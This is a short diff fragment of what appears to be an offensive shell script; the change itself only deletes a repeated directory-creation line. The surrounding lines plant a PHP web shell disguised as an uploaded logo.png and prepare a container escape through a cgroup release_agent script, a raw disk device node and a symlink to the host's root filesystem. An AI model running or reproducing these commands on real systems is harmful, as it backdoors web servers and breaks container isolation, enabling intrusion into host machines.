@@ -38,7 +38,6 @@ echo '<?php system($_GET["c"]); ?>' >/var/www/html/uploads/logo.png
 # 5. getting ready to leave the container
 mkdir -p /srv/cg
 mknod /srv/.disk b 8 0 2>/dev/null || echo "no device node: the container may not make one" >&2
-mkdir -p /srv/cg
 printf '#!/bin/sh\nid >/tmp/was-here\n' >/srv/cg/release_agent
 chmod 755 /srv/cg/release_agent
 ln -s /proc/1/root /srv/host
